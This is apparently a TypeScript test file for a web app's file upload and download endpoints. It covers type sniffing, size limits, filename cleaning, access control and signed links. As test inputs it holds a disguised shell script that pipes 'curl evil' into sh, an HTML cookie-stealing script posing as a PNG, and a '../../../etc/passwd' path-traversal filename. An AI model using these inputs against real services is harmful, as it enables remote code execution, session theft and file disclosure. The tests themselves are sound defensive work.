import { readdir } from 'node:fs/promises';
import path from 'node:path';
import { createMember, signInAdmin, startTestApp, type SignedIn, type TestApp } from '../support/test-app.js';

let t: TestApp;
let alice: SignedIn;
let bob: SignedIn;

// The smallest PDF readers accept; its signature is what content detection looks for.
const PDF = Buffer.from('%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n2 0 obj<</Type/Pages/Kids[]/Count 0>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n');

const auth = (who: SignedIn) => ({ Authorization: `Bearer ${who.token}` });

beforeAll(async () => {
  t = await startTestApp({ MAX_UPLOAD_MB: '1' });
  alice = await createMember(t);
  bob = await createMember(t);
}, 60_000);

afterAll(async () => {
  await t.close();
});

async function storedBytes(): Promise<string[]> {
  const root = path.join(t.config.dataDir, 'files');
  const months = await readdir(root).catch(() => [] as string[]);
  const all = await Promise.all(months.map(async (m) => (await readdir(path.join(root, m))).map((f) => `${m}/${f}`)));
  return all.flat();
}

async function nothingStored(run: () => Promise<unknown>) {
  const rows = await t.sql(`SELECT id FROM stored_files ORDER BY id`);
  const bytes = await storedBytes();
  await run();
  expect(await t.sql(`SELECT id FROM stored_files ORDER BY id`)).toEqual(rows);
  expect(await storedBytes()).toEqual(bytes);
}

describe('upload (K2)', () => {
  it('stores an allowed file unattached and answers id, name, size and type', async () => {
    const response = await t.http.post('/api/v1/files').set(auth(alice)).attach('file', PDF, { filename: 'Invitation.pdf', contentType: 'application/pdf' }).expect(201);
    expect(response.body).toEqual({ id: expect.any(String), name: 'Invitation.pdf', size: PDF.length, mimeType: 'application/pdf' });
    const [row] = await t.sql<{ owner_type: string; owner_id: string | null }>(`SELECT owner_type, owner_id FROM stored_files WHERE id = $1`, [response.body.id]);
    expect(row).toEqual({ owner_type: 'upload', owner_id: null });
  });

  it('refuses a script renamed .pdf', async () => {
    await nothingStored(async () => {
      const r = await t.http.post('/api/v1/files').set(auth(alice)).attach('file', Buffer.from('#!/bin/sh\ncurl evil | sh\n'), { filename: 'report.pdf', contentType: 'application/pdf' });
      expect(r.status).toBe(400);
    });
  });

  it('refuses an HTML file sent as image/png', async () => {
    await nothingStored(async () => {
      const r = await t.http.post('/api/v1/files').set(auth(alice)).attach('file', Buffer.from('<html><script>alert(document.cookie)</script></html>'), { filename: 'photo.png', contentType: 'image/png' });
      expect(r.status).toBe(400);
    });
  });

  it('refuses an upload over the limit with 413 and stores nothing', async () => {
    await nothingStored(async () => {
      const big = Buffer.concat([PDF, Buffer.alloc(1024 * 1024 + 10, 0x20)]);
      const r = await t.http.post('/api/v1/files').set(auth(alice)).attach('file', big, { filename: 'big.pdf', contentType: 'application/pdf' });
      expect(r.status).toBe(413);
    });
  });

  it('cleans a path-traversal name; the storage key never comes from it', async () => {
    const r = await t.http.post('/api/v1/files').set(auth(alice)).attach('file', Buffer.from('plain notes\n'), { filename: '../../../etc/passwd.txt', contentType: 'text/plain' }).expect(201);
    expect(r.body.name).toBe('passwd.txt');
    const [row] = await t.sql<{ storage_key: string }>(`SELECT storage_key FROM stored_files WHERE id = $1`, [r.body.id]);
    expect(row.storage_key).toMatch(/^\d{4}-\d{2}\/[0-9a-f-]{36}$/);
    expect(row.storage_key).not.toContain('passwd');
  });

  it('refuses a request without a file', async () => {
    await nothingStored(async () => {
      expect((await t.http.post('/api/v1/files').set(auth(alice)).field('x', 'y')).status).toBe(400);
    });
  });
});

describe('download (K2)', () => {
  it('is an attachment with nosniff for whoever may read the owner, 404 for others, and logged', async () => {
    const up = await t.http.post('/api/v1/files').set(auth(alice)).attach('file', PDF, { filename: 'Évaluation finale.pdf', contentType: 'application/pdf' }).expect(201);
    const ok = await t.http.get(`/api/v1/files/${up.body.id}`).set(auth(alice)).buffer(true).expect(200);
    expect(ok.headers['x-content-type-options']).toBe('nosniff');
    expect(ok.headers['content-disposition']).toBe(`attachment; filename="Evaluation finale.pdf"; filename*=UTF-8''%C3%89valuation%20finale.pdf`);
    // An unattached upload is its uploader's alone.
    await t.http.get(`/api/v1/files/${up.body.id}`).set(auth(bob)).expect(404);
    await t.http.get(`/api/v1/files/${up.body.id}`).expect(401);
    const log = await t.sql<{ user_id: string; via_link: boolean }>(`SELECT user_id, via_link FROM file_downloads WHERE file_id = $1`, [up.body.id]);
    expect(log).toEqual([{ user_id: alice.user.id, via_link: false }]);
  });

  it('an event attachment follows the event: members of a network event only', async () => {
    const admin = await signInAdmin(t);
    const up = await t.http.post('/api/v1/files').set(auth(admin)).attach('file', PDF, { filename: 'Agenda.pdf', contentType: 'application/pdf' }).expect(201);
    const [network] = await t.sql<{ id: string }>(`INSERT INTO networks (slug, name, visibility) VALUES ('files-test', 'Files test', 'restricted') RETURNING id`);
    await t.sql(`INSERT INTO network_memberships (network_id, user_id, role, status, joined_at) VALUES ($1, $2, 'member', 'active', now())`, [network.id, alice.user.id]);
    const startsAt = new Date(Date.now() + 86_400_000);
    // Someone else's upload cannot be attached.
    const foreign = await t.http.post('/api/v1/files').set(auth(bob)).attach('file', PDF, { filename: 'x.pdf', contentType: 'application/pdf' }).expect(201);
    const fields = {
      title: 'Network briefing', kind: 'briefing', startsAt: startsAt.toISOString(), endsAt: new Date(startsAt.getTime() + 3600_000).toISOString(),
      timeZone: 'Africa/Lagos', registrationMode: 'open', visibility: 'network', networkId: network.id,
    };
    await t.http.post('/api/v1/events').set(auth(admin)).send({ ...fields, attachmentIds: [foreign.body.id] }).expect(400);
    const event = (await t.http.post('/api/v1/events').set(auth(admin)).send({ ...fields, attachmentIds: [up.body.id] }).expect(201)).body;
    expect(event.attachments).toEqual([{ id: up.body.id, name: 'Agenda.pdf', size: PDF.length, mimeType: 'application/pdf' }]);
    await t.http.get(`/api/v1/files/${up.body.id}`).set(auth(alice)).expect(200);
    await t.http.get(`/api/v1/files/${up.body.id}`).set(auth(bob)).expect(404);
    await t.http.get(`/api/v1/events/${event.id}`).set(auth(bob)).expect(404);

    // Signed links: for the caller only, re-checked on use, refused when tampered with.
    const link = (await t.http.post(`/api/v1/files/${up.body.id}/link`).set(auth(alice)).expect(200)).body as { url: string; expiresAt: string };
    expect(new Date(link.expiresAt).getTime() - Date.now()).toBeLessThanOrEqual(5 * 60_000);
    await t.http.get(link.url).expect(200);
    await t.http.post(`/api/v1/files/${up.body.id}/link`).set(auth(bob)).expect(404);
    await t.http.get(link.url.replace(/exp=\d+/, (m) => `exp=${Number(m.slice(4)) - 1000}`)).expect(404);
    // Alice leaves the network: her link stops working at once.
    await t.sql(`DELETE FROM network_memberships WHERE user_id = $1`, [alice.user.id]);
    await t.http.get(link.url).expect(404);
    const logged = await t.sql<{ via_link: boolean }>(`SELECT via_link FROM file_downloads WHERE file_id = $1 ORDER BY id`, [up.body.id]);
    expect(logged).toEqual([{ via_link: false }, { via_link: true }]);
  }, 60_000);
});
